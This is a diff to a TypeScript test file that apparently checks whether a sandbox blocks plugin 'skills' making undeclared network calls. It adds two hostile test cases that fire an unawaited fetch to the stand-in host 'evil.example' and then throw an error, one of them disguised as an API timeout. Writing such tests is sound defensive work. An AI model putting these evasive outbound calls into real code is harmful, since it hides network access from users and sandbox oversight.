@@ -160,6 +160,16 @@ const undeclared: readonly HostileSkill[] = [
     ends: blocked,
   },
   {
+    title: 'a host, not waited for, and an error of its own',
+    skill: `() => { fetch('https://evil.example/'); throw new SkillError('API_TIMEOUT') }`,
+    ends: blocked,
+  },
+  {
+    title: 'a host, not waited for, and a crash',
+    skill: `() => { fetch('https://evil.example/'); throw new Error('crash') }`,
+    ends: blocked,
+  },
+  {
     title: 'a host, in a race',
     skill: `() => Promise.race([fetch('https://evil.example/'), Promise.resolve('done')])`,
     ends: blocked,
